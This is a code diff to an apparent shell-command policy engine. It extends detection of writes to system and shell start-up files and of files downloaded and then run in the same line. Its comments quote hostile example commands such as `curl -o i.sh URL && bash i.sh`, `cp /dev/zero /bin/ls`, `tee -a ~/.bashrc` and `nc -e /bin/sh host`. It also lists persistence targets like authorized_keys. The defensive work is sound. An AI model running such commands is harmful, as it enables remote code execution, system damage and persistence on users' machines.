@@ -180,7 +180,40 @@ STDIN_LANGUAGES = frozenset(
      "script", "tclsh", "wish", "dc"}
 )  # fmt: skip
 _SIGNALLERS = frozenset({"kill", "killall", "pkill", "skill", "snice"})
-_COPIERS = frozenset({"cp", "mv", "install", "ln", "rsync", "dd"})
+
+
+@dataclass(frozen=True)
+class _Writes:
+    """Where a program writes: values of ``options``, and its operands (``last`` or ``all``, past ``skip``, when
+    one of ``when`` is given); ``values`` are its options that take a value; ``into_home``: a directory it fills."""
+
+    options: tuple[str, ...] = ()
+    operands: str = ""
+    skip: int = 0
+    when: tuple[str, ...] = ()
+    values: frozenset[str] = frozenset()
+    into_home: bool = False
+
+
+_WRITERS: dict[str, _Writes] = {
+    "cp": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "S", "suffix"})),
+    "mv": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "S", "suffix"})),
+    "install": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "m", "mode",
+                                                                            "o", "owner", "g", "group"})),
+    "ln": _Writes(("t", "target-directory"), "last", values=frozenset({"t", "target-directory", "S", "suffix"})),
+    "rsync": _Writes((), "last"),
+    "dd": _Writes(),
+    "tee": _Writes((), "all"),
+    "truncate": _Writes((), "all", values=frozenset({"s", "size", "r", "reference"})),
+    "sponge": _Writes((), "all"),
+    "sed": _Writes((), "all", 1, ("i", "in-place"), frozenset({"e", "f", "expression", "file", "l"})),
+    "perl": _Writes((), "all", 0, ("i",), frozenset({"I", "M", "m", "e", "E"})),
+    "curl": _Writes(("o", "output"), values=frozenset({"o", "output"})),
+    "wget": _Writes(("O", "output-document"), values=frozenset({"O", "output-document"})),
+    "tar": _Writes(("C", "directory"), values=frozenset({"C", "directory", "f", "file"}), into_home=True),
+    "unzip": _Writes(("d",), values=frozenset({"d"}), into_home=True),
+}  # fmt: skip
+_COPIERS = frozenset(_WRITERS)
 _BOXED_PRIVATE = ("/tmp/", "/var/tmp/", "/dev/shm/", "/dev/null")  # noqa: S108
 REMOTE = Feed("remote")  # the command runs in a container or on another host: its shell is not an escape here
 _ELSEWHERE = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc", "ssh", "rsh", "lxc", "incus"})
@@ -345,7 +378,8 @@ SYSTEM_FILES = (
     "/etc/**", "/boot/**", "/usr/**", "/bin/**", "/sbin/**", "/lib/**", "/lib64/**", "/lib32/**", "/root/**",
     "/var/lib/**", "/var/spool/**", "~/.bashrc", "~/.bash_profile", "~/.bash_login", "~/.bash_logout",
     "~/.bash_history", "~/.profile", "~/.zshrc", "~/.zshenv", "~/.zprofile", "~/.zlogin", "~/.ssh/**",
-    "~/.config/autostart/**", "~/.config/systemd/**", "~/.gitconfig", "~/.config/git/**",
+    "~/.config/autostart/**", "~/.config/systemd/**", "~/.gitconfig", "~/.config/git/**", "~/.local/bin/**",
+    "~/.config/fish/**", "~/.bashrc.d/**", "~/.config/environment.d/**",
 )  # fmt: skip
 
 
@@ -476,6 +510,8 @@ class _Expander:
         self.stdin_code = ""  # what reads the call's or job's stdin as program text (Verdict.stdin_code)
         self.fetches = False  # the line downloads something (curl, wget …): what it builds at run time may be that
         self.reaches_outside: Callable[[list[str]], bool] = lambda _args: False
+        self.home_path = ""  # what ~ names, spelled out
+        self.downloaded: set[str] = set()  # files the line downloads (curl -o, wget)
 
     def finding(self, kind: str, detail: str) -> None:
         self.found.append(_Found(None, detail, Finding(kind, detail)))
@@ -598,6 +634,7 @@ class _Expander:
         rest = list(words[1:])
         if program in _COPIERS:
             self._destination(program, argv)
+        self._downloads(program, argv)
         for inner_text in option_commands(_interpreter_name(program) or program, rest):
             # `nc -e /bin/sh host`: the shell's stdin is the connection, so its script comes from elsewhere.
             self._inner(program, inner_text, depth, Feed("pipe") if program in NETWORK_FED else feed)
@@ -656,14 +693,42 @@ class _Expander:
         for text in run_texts(program, rest):
             self._inner(program, text, depth, feed)
 
+    def _downloads(self, program: str, argv: list[str]) -> None:
+        """Threat: `curl -o i.sh URL && bash i.sh`, `wget URL/x.sh; sh x.sh`: a file downloaded and run in the same
+        line is code fetched from the network and run as it arrives."""
+        if program in ("curl", "wget"):
+            parsed = parse_args(program, argv[1:], _WRITERS[program].values)
+            names = [v for option in _WRITERS[program].options for v in parsed.values_of(option)]
+            remote = program == "wget" or parsed.has("O") or parsed.has("remote-name")
+            if remote and not names:
+                names = [posixpath.basename(u.split("?")[0]) for u in parsed.positionals if "/" in u]
+            self.downloaded.update(posixpath.normpath(n) for n in names if n and n != _DYNAMIC and n != "-")
+            return
+        if not self.downloaded:
+            return
+        run = [argv[0]]
+        if program in SHELLS or program in INTERPRETERS or _interpreter_name(program) or program in ("source", "."):
+            run += [a for a in argv[1:] if not a.startswith("-")][:1]
+        if any(posixpath.normpath(r) in self.downloaded for r in run if r != _DYNAMIC):
+            self.finding("remote-code", f"{program} runs a file this line downloads")
+
     def _destination(self, program: str, argv: list[str]) -> None:
-        """Threat: `cp /dev/zero /bin/ls`, `mv x /etc/passwd`: a copy whose destination (the last operand, or -t's
-        value) is a file of the system or of the shell's start-up."""
-        parsed = parse_args(program, argv[1:], frozenset({"t", "target-directory", "S", "suffix", "m", "mode"}))
-        destinations = parsed.values_of("t") + parsed.values_of("target-directory")
-        if not destinations and len(parsed.positionals) >= 2:
+        """Threat: `cp /dev/zero /bin/ls`, `mv x /etc/passwd`, `tee -a ~/.bashrc`, `sed -i … ~/.bashrc`,
+        `curl -o ~/.bashrc URL`, `tar xf x.tar -C ~`: a program writing a file of the system or of the shell's
+        start-up (or extracting into the home directory itself), whatever the program."""
+        spec = _WRITERS[program]
+        parsed = parse_args(program, argv[1:], spec.values)
+        destinations = [v for option in spec.options for v in parsed.values_of(option)]
+        if spec.operands == "last" and not destinations and len(parsed.positionals) >= 2:
             destinations = parsed.positionals[-1:]
+        elif spec.operands == "all" and (not spec.when or any(parsed.has(flag) for flag in spec.when)):
+            scripted = any(parsed.values_of(option) for option in ("e", "expression", "f", "file"))
+            destinations += parsed.positionals[0 if scripted else spec.skip :]  # sed's script is its first operand
+        if program == "dd":
+            destinations += [a.partition("=")[2] for a in argv[1:] if a.startswith("of=")]
         for destination in destinations:
+            if spec.into_home and destination != _DYNAMIC and normalize_path(destination) in ("~", self.home_path):
+                self.finding("system-write", f"{program} writes into the home directory itself ({destination})")
             if destination != _DYNAMIC and _system_file(destination):
                 self.finding("system-write", f"{program} writes over {destination}, a file of the system or the shell")
 
@@ -1046,8 +1111,23 @@ def _forks_repeatedly(code: str) -> bool:
 
 
 def _system_file(target: str) -> bool:
+    """A file of the system or of a shell's start-up: by place, or — outside the project's relative paths — by name
+    (`/home/u/.bashrc`, `~root/.profile`, `../../.bashrc`)."""
     normal = normalize_path(target)
-    return any(_path_match(normal, pattern) for pattern in SYSTEM_FILES)
+    if any(_path_match(normal, pattern) for pattern in SYSTEM_FILES):
+        return True
+    if normal.startswith(("/", "~", "..")):
+        return posixpath.basename(normal) in STARTUP_NAMES or any(part in STARTUP_DIRS for part in normal.split("/"))
+    return False
+
+
+# What a shell, a session or a desktop runs at start-up, by name (wherever a home directory is).
+STARTUP_NAMES = frozenset(
+    {".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".bash_aliases", ".profile", ".zshrc", ".zshenv",
+     ".zprofile", ".zlogin", ".kshrc", ".mkshrc", ".cshrc", ".tcshrc", ".login", ".xsessionrc", ".xprofile",
+     ".xinitrc", ".inputrc", ".bash_history", ".gitconfig", ".npmrc", ".pam_environment", "authorized_keys"}
+)  # fmt: skip
+STARTUP_DIRS = frozenset({".bashrc.d", ".ssh", "autostart", "environment.d", "fish", ".zshrc.d"})
 
 
 def _writes_device(target: str) -> bool:
@@ -1166,6 +1246,7 @@ class PolicyEngine:
         expander = _Expander(env or {}, self.base_path, self._named)
         expander.known_runs = self._denied
         expander.reaches_outside = lambda args: self._reaches_outside(parse_args("", args))
+        expander.home_path = self.home
         if args:
             words = [Word(command, command), *(Word(a, a) for a in args)]
             expander.argv(words, None, 0, feed=stdin)
